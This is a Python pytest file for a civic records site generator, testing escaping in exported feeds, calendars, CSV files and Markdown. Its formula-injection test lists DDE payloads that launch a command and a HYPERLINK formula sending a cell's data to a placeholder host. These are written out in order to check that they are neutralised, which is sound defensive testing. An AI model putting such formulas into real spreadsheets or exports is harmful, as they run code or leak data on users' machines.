"""Record text at the edges the hostile corpus does not reach: e-mail autolinks, characters XML and
iCalendar refuse, spreadsheet formulas, quotes in the table of contents, runaway horizontal rules."""

from __future__ import annotations

import csv
import html
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import markdown
import pytest
import yaml

from minhbach.catalog import load_catalog
from minhbach.exports.feeds import CALENDAR_PATH, FEED_PATH
from minhbach.pages import PageRenderer
from minhbach.pages.escape import md
from minhbach.pages.markdown import RecordMarkdown, complexity_problems, docs_link_resolver
from tests import conftest
from tests.conftest import TODAY, write_project


@pytest.mark.parametrize("text, address", [("<phong@langson.gov.vn>", "mailto:phong@langson.gov.vn"),
                                           ("<mailto:a@b.vn>", "mailto:a@b.vn")])
def test_email_autolinks_in_markdown_fields_lead_to_the_address(text: str, address: str):
    rendered = RecordMarkdown().render(f"Liên hệ {text}.", resolve=docs_link_resolver("thong-bao/x.md", lambda target, page: "../" + target))
    hrefs = re.findall(r'href="([^"]*)"', rendered.html)
    assert [html.unescape(href) for href in hrefs] == [address], rendered.html
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", rendered.html), repr(rendered.html)


CONTROL = "\x02\x0b\x1b\x00\ufffe"


def _project_with(tmp_path: Path, files: dict[str, str]) -> Path:
    write_project(tmp_path, conftest.VALID_FILES)
    write_project(tmp_path, files)
    return tmp_path


def _dump(data: dict) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def test_control_characters_written_as_yaml_escapes_are_refused_or_kept_out_of_the_feed_and_calendar(tmp_path: Path):
    event = yaml.safe_load(conftest.EVENT)
    event["title"] = f"Hội chợ {CONTROL} cuối"
    root = _project_with(tmp_path, {"data/events/hoi-cho-mot.yml": _dump(event)})
    catalog, findings = load_catalog(root / "data", display_base=root)
    if any(f.is_error and f.path == "data/events/hoi-cho-mot.yml" for f in findings):
        return  # refused with a finding
    files = PageRenderer(catalog, today=TODAY).data_files()
    ET.fromstring(files[FEED_PATH])  # Atom is XML 1.0: these characters make it unreadable to every feed reader
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", files[CALENDAR_PATH]), "RFC 5545 TEXT excludes CONTROL characters"


FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?d="&A2,"Bấm")']


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path):
    files = {}
    for index, formula in enumerate(FORMULAS):
        notice = yaml.safe_load(conftest.NOTICE)
        notice["id"] = f"thong-bao-{index}"
        notice["title"] = formula
        files[f"data/notices/thong-bao-{index}.yml"] = _dump(notice)
    root = _project_with(tmp_path, files)
    catalog, findings = load_catalog(root / "data", display_base=root)
    assert not [f for f in findings if f.is_error], findings
    data = PageRenderer(catalog, today=TODAY).data_files()
    rows = list(csv.reader(io.StringIO(data["du-lieu/thong-bao.csv"].decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], [c for c in cells if c[:1] in "=+@"]


@pytest.mark.parametrize("name", ["Lãnh sự \"Biên giới\"", "Quan hệ 'hữu nghị'", "Kinh tế & đối ngoại"])
def test_headings_made_from_record_text_read_the_same_in_the_table_of_contents(name: str):
    # MkDocs builds page.toc from Python-Markdown's toc tokens, and Material prints their `name` as HTML.
    converter = markdown.Markdown(extensions=["toc"])
    converter.convert(f"## {md(name)}")
    assert html.unescape(converter.toc_tokens[0]["name"]) == name


@pytest.mark.parametrize("line", ["***", "___", "- - -", "Tiêu đề\n==="])
def test_runaway_horizontal_rules_and_setext_headings_are_too_complex(line: str):
    # Python-Markdown splits the block at each rule or setext heading and re-scans the rest: 10,000
    # rules took 6 s, 30,000 (a 210 KB record) 58 s of `minhbach check`; 512 KB are allowed per file.
    text = (line + "\n") * 30000
    assert [p.code for p in complexity_problems(text)] == ["markdown-too-complex"]
